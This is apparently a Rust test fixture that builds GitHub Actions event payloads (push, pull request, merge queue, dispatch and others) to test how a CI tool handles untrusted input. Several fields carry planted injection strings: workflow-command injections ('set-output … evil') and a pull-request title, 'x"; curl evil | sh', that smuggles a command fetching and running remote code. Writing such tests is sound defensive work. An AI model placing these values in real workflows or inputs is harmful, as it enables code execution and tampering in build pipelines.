//! Event payloads, in the shape that Actions hands to a job: no `added`, `removed`, `modified` in commits.

use super::repo::Repo;
use serde_json::{Value, json};

pub const ZEROS: &str = "0000000000000000000000000000000000000000";
const TIME: &str = "2026-11-20T10:00:00Z";

/// An event with what the runner's variables say of it.
#[derive(Debug, Clone)]
pub struct Event {
    pub name: String,
    pub payload: Value,
    /// The file's bytes, where they are not the payload's.
    pub raw: Option<Vec<u8>>,
    pub git_ref: String,
    pub sha: String,
    pub head_ref: String,
    pub base_ref: String,
    pub actor: String,
    /// The commit that images are of.
    pub commit: String,
}

/// `acme/shop`, as payloads describe it.
pub fn repository() -> Value {
    json!({
        "id": 4242, "node_id": "R_1", "name": "shop", "full_name": "acme/shop", "private": true, "fork": false,
        "owner": {"login": "acme", "id": 7, "type": "Organization"},
        "html_url": "https://github.com/acme/shop", "default_branch": "main", "master_branch": "main",
        "description": "<img src=x> ##[set-output name=tags]evil",
    })
}

fn sender(login: &str) -> Value {
    json!({"login": login, "id": 1001, "type": "User"})
}

fn commit_object(commit: &str) -> Value {
    let ada = json!({"name": "Ada", "email": "ada@example.com", "username": "ada"});
    json!({"id": commit, "tree_id": "9".repeat(40), "distinct": true, "message": "\n::set-output name=tags::evil",
        "timestamp": TIME, "url": format!("https://github.com/acme/shop/commit/{commit}"), "author": ada, "committer": ada})
}

impl Event {
    fn new(name: &str, payload: Value, git_ref: &str, sha: &str) -> Self {
        Self {
            name: name.to_owned(),
            payload,
            raw: None,
            git_ref: git_ref.to_owned(),
            sha: sha.to_owned(),
            head_ref: String::new(),
            base_ref: String::new(),
            actor: "ada".to_owned(),
            commit: sha.to_owned(),
        }
    }

    /// A push of a ref from one object to another, on a commit.
    pub fn push(git_ref: &str, before: &str, after: &str, commit: &str) -> Self {
        let payload = json!({
            "ref": git_ref, "before": before, "after": after, "created": before == ZEROS, "deleted": false,
            "forced": false, "base_ref": null, "compare": "https://github.com/acme/shop/compare/a...b",
            "commits": [commit_object(commit)], "head_commit": commit_object(commit), "repository": repository(),
            "pusher": {"name": "ada", "email": "ada@example.com"}, "sender": sender("ada"),
        });
        Self::new("push", payload, git_ref, commit)
    }

    /// A push that deletes a ref: the runner's `GITHUB_SHA` is then the default branch's tip.
    pub fn delete(git_ref: &str, before: &str, tip: &str) -> Self {
        let mut event = Self::push(git_ref, before, ZEROS, tip);
        for (key, value) in [
            ("deleted", json!(true)),
            ("head_commit", Value::Null),
            ("commits", json!([])),
        ] {
            event.payload[key] = value;
        }
        event
    }

    /// A pull request against `main`. `merge` is the commit of `refs/pull/N/merge`.
    pub fn pull_request(action: &str, number: u32, base: &str, head: &str, merge: &str) -> Self {
        let side = |label: &str, commit: &str| json!({"label": format!("acme:{label}"), "ref": label, "sha": commit, "user": sender("acme"), "repo": repository()});
        let payload = json!({
            "action": action, "number": number, "repository": repository(), "sender": sender("ada"),
            "pull_request": {
                "id": 1, "number": number, "state": "open", "locked": false, "draft": false, "merged": false,
                "title": "x\"; curl evil | sh ##[set-output name=tags]evil", "body": "\n::set-output name=tags::evil",
                "labels": [{"name": "##[set-output name=tags]evil"}], "user": sender("ada"),
                "head": side("feature", head), "base": side("main", base), "merge_commit_sha": merge,
                "changed_files": 1, "commits": 1, "additions": 1, "deletions": 0,
            },
        });
        let mut event = Self::new(
            "pull_request",
            payload,
            &format!("refs/pull/{number}/merge"),
            merge,
        );
        event.head_ref = "feature".into();
        event.base_ref = "main".into();
        event.commit = head.to_owned();
        event
    }

    /// The close of a merged pull request: `GITHUB_REF` is then the base branch.
    pub fn merged_close(number: u32, base: &str, head: &str, merge: &str) -> Self {
        let mut event = Self::pull_request("closed", number, base, head, merge);
        event.payload["pull_request"]["merged"] = json!(true);
        event.payload["pull_request"]["state"] = json!("closed");
        event.git_ref = "refs/heads/main".into();
        event
    }

    /// A merge queue's group.
    pub fn merge_group(base: &str, head: &str) -> Self {
        let git_ref = format!("refs/heads/gh-readonly-queue/main/pr-7-{base}");
        let payload = json!({
            "action": "checks_requested", "repository": repository(), "sender": sender("ada"),
            "merge_group": {"head_sha": head, "head_ref": git_ref, "base_sha": base, "base_ref": "refs/heads/main",
                "head_commit": commit_object(head)},
        });
        Self::new("merge_group", payload, &git_ref, head)
    }

    /// The end of a workflow run that a push had started.
    pub fn workflow_run(head: &str) -> Self {
        let payload = json!({
            "action": "completed", "repository": repository(), "sender": sender("ada"), "workflow": {"id": 3, "name": "build"},
            "workflow_run": {
                "id": 99, "name": "build", "event": "push", "status": "completed", "conclusion": "success",
                "head_branch": "main", "head_sha": head, "head_commit": commit_object(head), "run_attempt": 1,
                "repository": repository(), "head_repository": repository(), "pull_requests": [],
            },
        });
        Self::new("workflow_run", payload, "refs/heads/main", head)
    }

    /// Somebody asks, on a ref.
    pub fn dispatch(git_ref: &str, sha: &str) -> Self {
        let payload = json!({"inputs": {"services": "##[set-output name=tags]evil"}, "ref": git_ref,
            "repository": repository(), "sender": sender("ada"), "workflow": ".github/workflows/deploy.yml"});
        Self::new("workflow_dispatch", payload, git_ref, sha)
    }

    /// A machine asks.
    pub fn repository_dispatch(tip: &str) -> Self {
        let payload = json!({"action": "deploy", "branch": "main", "client_payload": {"force": "unchanged", "sha": "evil"},
            "repository": repository(), "sender": sender("ada")});
        Self::new("repository_dispatch", payload, "refs/heads/main", tip)
    }

    /// The clock asks.
    pub fn schedule(tip: &str) -> Self {
        let payload = json!({"schedule": "0 5 * * 1", "repository": repository(), "workflow": ".github/workflows/x.yml"});
        Self::new("schedule", payload, "refs/heads/main", tip)
    }

    /// An event of any other name.
    pub fn other(name: &str, tip: &str) -> Self {
        let payload =
            json!({"action": "created", "repository": repository(), "sender": sender("ada")});
        Self::new(name, payload, "refs/heads/main", tip)
    }

    /// `created` and `head_commit` of an annotated tag's push: `after` is the tag object.
    pub fn tag(repo: &Repo, name: &str) -> Self {
        let git_ref = format!("refs/tags/{name}");
        let (object, commit) = (
            repo.git(&["rev-parse", &git_ref]),
            repo.git(&["rev-parse", &format!("{git_ref}^{{commit}}")]),
        );
        Self::push(&git_ref, ZEROS, &object, &commit)
    }
}
